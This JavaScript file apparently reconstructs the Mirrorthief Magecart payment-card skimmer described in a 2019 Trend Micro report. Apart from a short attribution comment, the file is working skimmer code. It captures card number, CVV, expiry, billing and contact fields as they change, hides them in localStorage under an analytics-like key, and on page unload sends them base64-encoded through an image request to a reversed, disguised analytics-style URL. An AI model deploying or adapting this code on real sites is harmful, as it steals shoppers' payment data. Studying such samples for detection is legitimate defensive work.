// mirrorthief (variant b), written from Trend Micro, "Mirrorthief Group Uses Magecart
// Skimming Attack to Hit Hundreds of Campus Online Stores in US and Canada" (2019): the second
// version Trend Micro described, which targets the platform's newer payment page - fields are
// read when each one changes, kept in localStorage, and sent once the page unloads through an
// image request whose address is kept reversed and whose payload is base64.
(function () {
  var h = "fig.mtu_/dilavni.scitylana-elgoog-nimda//:sptth";
  var gate = h.split("").reverse().join("");
  var store = JSON.parse(localStorage.getItem("_gaq_st") || "{}");
  function keep(e) {
    var t = e.target;
    if (!t || !t.name) return;
    if (/card|cvv|cvc|exp|bill|zip|email|phone/i.test(t.name)) {
      store[t.name] = t.value;
      localStorage.setItem("_gaq_st", JSON.stringify(store));
    }
  }
  document.addEventListener("change", keep, true);
  function flush() {
    if (!store.cardNumber && !store.card_number) return;
    var img = new Image(1, 1);
    img.src = gate + "?utmcc=" + encodeURIComponent(btoa(JSON.stringify(store))) + "&utmn=" + Math.random();
    localStorage.removeItem("_gaq_st");
    store = {};
  }
  window.addEventListener("beforeunload", flush);
  window.addEventListener("pagehide", flush);
})();
